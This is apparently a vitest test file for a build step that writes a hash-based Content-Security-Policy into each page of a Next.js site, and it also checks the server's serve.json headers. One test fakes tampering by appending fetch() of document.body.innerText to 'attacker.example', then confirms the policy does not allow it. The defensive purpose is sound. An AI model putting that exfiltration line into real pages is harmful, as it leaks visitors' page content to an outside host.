import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { scriptHashSource } from './script-hashes'
import { PAGE_SCRIPT_SOURCES, scriptPolicy, withScriptPolicy } from './script-policy'

const page = (head: string, body: string) => `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/>${head}</head><body>${body}</body></html>`
const BOOTSTRAP = '(self.__next_f=self.__next_f||[]).push([0])'
const PAYLOAD = 'self.__next_f.push([1,"page payload"])'
const built = page(
  '<script src="/_next/static/chunks/main.js" async=""></script>',
  `<main>Guide</main><script>${BOOTSTRAP}</script><script>${PAYLOAD}</script>`,
)

/** The script-src sources of the policy a page carries in its <meta>. */
function allowedSources(html: string): string[] {
  const policy = /<meta http-equiv="Content-Security-Policy" content="script-src ([^"]*)"/.exec(html)?.[1]
  if (policy === undefined) throw new Error('the page carries no script policy')
  return policy.split(' ')
}

describe('the script policy written into each page', () => {
  it('hashes a script as CSP does (the example from the CSP specification)', () => {
    expect(scriptHashSource("alert('Hello, world.');")).toBe("'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='")
  })

  it('allows our own files, WebAssembly, and exactly the inline scripts the page was built with', () => {
    const sources = allowedSources(withScriptPolicy(built))
    expect(sources).toEqual([...PAGE_SCRIPT_SOURCES, scriptHashSource(BOOTSTRAP), scriptHashSource(PAYLOAD)])
  })

  it('also allows the inline scripts held in a file beside the page, which run in it when it boots', () => {
    const held = '<script>self.__next_f.push([1,"held"])</script>'
    expect(allowedSources(withScriptPolicy(built, held))).toContain(scriptHashSource('self.__next_f.push([1,"held"])'))
  })

  it('does not allow an inline script changed after the build', () => {
    const sources = allowedSources(withScriptPolicy(built))
    const tampered = built.replace(PAYLOAD, `${PAYLOAD};fetch("https://attacker.example/?" + document.body.innerText)`)
    const tamperedHashes = scriptPolicy(tampered)
      .split(' ')
      .filter((s) => s.startsWith("'sha256-"))
    expect(tamperedHashes.filter((hash) => !sources.includes(hash))).toHaveLength(1)
  })

  it('comes before every script, right after the charset, which stays within the first 1,024 bytes', () => {
    const html = withScriptPolicy(built)
    const policyAt = html.indexOf('http-equiv="Content-Security-Policy"')
    expect(policyAt).toBeLessThan(html.indexOf('<script'))
    expect(html.indexOf('<meta charSet="utf-8"/>')).toBeLessThan(policyAt)
    expect(html.indexOf('charSet')).toBeLessThan(1024)
  })

  it('is replaced, not repeated, when the step runs again on its own output', () => {
    const twice = withScriptPolicy(withScriptPolicy(built))
    expect(twice).toBe(withScriptPolicy(built))
  })

  it('gives a page without inline scripts only our own files and WebAssembly', () => {
    expect(allowedSources(withScriptPolicy(page('<script src="/theme.js"></script>', '<p>Redirecting</p>')))).toEqual(PAGE_SCRIPT_SOURCES)
  })

  it('refuses a page with no <head> rather than leave it without a policy', () => {
    expect(() => withScriptPolicy('<p>fragment</p>')).toThrow(/no <head>/)
  })
})

describe("the server's policy (serve.json)", () => {
  const config = JSON.parse(readFileSync('serve.json', 'utf8')) as { headers: { source: string; headers: { key: string; value: string }[] }[] }
  const header = config.headers.find((h) => h.source === '**')?.headers.find((h) => h.key === 'Content-Security-Policy')?.value ?? ''
  const directive = (name: string) =>
    header
      .split(';')
      .map((d) => d.trim().split(' '))
      .find(([n]) => n === name)
      ?.slice(1) ?? []

  it('lets every source a page policy allows through, so the page policy alone decides which scripts run', () => {
    // The browser enforces both policies; inline scripts pass the header and are then held to the page's hashes.
    expect(directive('script-src')).toEqual(expect.arrayContaining([...PAGE_SCRIPT_SOURCES, "'unsafe-inline'"]))
  })

  it('keeps everything else to our own origin and forbids framing', () => {
    expect(directive('default-src')).toEqual(["'self'"])
    expect(directive('connect-src')).toEqual(["'self'"])
    expect(directive('frame-ancestors')).toEqual(["'none'"])
    expect(directive('object-src')).toEqual(["'none'"])
  })
})
